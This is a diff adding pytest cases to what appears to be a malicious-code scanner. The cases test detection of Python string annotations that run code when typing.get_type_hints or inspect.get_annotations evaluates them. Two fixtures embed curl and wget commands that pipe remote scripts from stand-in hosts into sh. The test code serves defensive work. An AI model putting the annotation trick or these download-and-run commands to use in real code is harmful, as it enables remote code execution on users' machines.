@@ -68,3 +68,43 @@ def test_a_downloaded_stage_given_to_timeit_is_run_downloaded_data() -> None:
 )
 def test_a_runner_given_no_decoded_or_downloaded_source_is_not_a_threat(source: str) -> None:
     assert not danger(source)
+
+
+#: blind16 (tune b16-cn-type-hints-eval): a string annotation is evaluated by the readers
+#: of annotations, so code in one runs when they are asked for the hints.
+EVALUATED_ANNOTATIONS = [
+    "import typing\n"
+    "def probe(x: \"__import__('os').system('curl -s https://t.example/p | sh') or int\"):\n"
+    "    pass\ntyping.get_type_hints(probe)\n",
+    "import inspect\nclass C:\n"
+    "    a: \"__import__('os').system('wget -qO- http://192.0.2.4/x | sh')\"\n"
+    "inspect.get_annotations(C, eval_str=True)\n",
+]
+
+
+@pytest.mark.parametrize("source", EVALUATED_ANNOTATIONS)
+def test_code_in_an_annotation_a_reader_evaluates_is_run(source: str) -> None:
+    assert {"CPL-THR-015", "CPL-THR-016"} <= danger(source)
+
+
+@pytest.mark.parametrize("source", EVALUATED_ANNOTATIONS)
+def test_code_in_an_evaluated_annotation_is_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-016")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # forward references: what string annotations are for
+        "import typing\nclass Node:\n    parent: 'Node | None'\n"
+        "    children: 'list[Node]'\ntyping.get_type_hints(Node)\n",
+        "import typing\ndef f(x: 'typing.Optional[int]') -> 'str':\n    return ''\n"
+        "HINTS = typing.get_type_hints(f)\n",
+        # an annotation that names a call but is never evaluated by the code
+        "def g(x: \"__import__('os').system('id')\"):\n    pass\n",
+    ],
+)
+def test_annotations_that_are_types_or_never_evaluated_stay_clean(source: str) -> None:
+    assert not danger(source) & {"CPL-THR-015", "CPL-THR-016"}
